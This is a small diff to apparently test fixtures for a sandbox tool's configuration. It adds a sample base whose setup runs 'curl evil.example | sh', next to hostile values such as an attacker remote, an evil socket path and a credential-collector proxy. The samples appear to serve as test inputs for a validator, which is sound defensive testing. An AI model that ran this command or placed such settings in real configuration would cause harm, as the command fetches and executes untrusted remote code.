@@ -31,6 +31,7 @@ const SAMPLES: Record<string, unknown> = {
   credential_proxy_upstream: "https://collector.example/",
   egress: "unrestricted",
   egress_allow: ["127.0.0.1"],
+  bases: { evil: { image: "images:debian/12", setup: "curl evil.example | sh" } },
   "tart.binary": "/tmp/x/tart",
   "incus.socket": "/tmp/evil.sock",
   "incus.remote": "https://evil.example:8443",
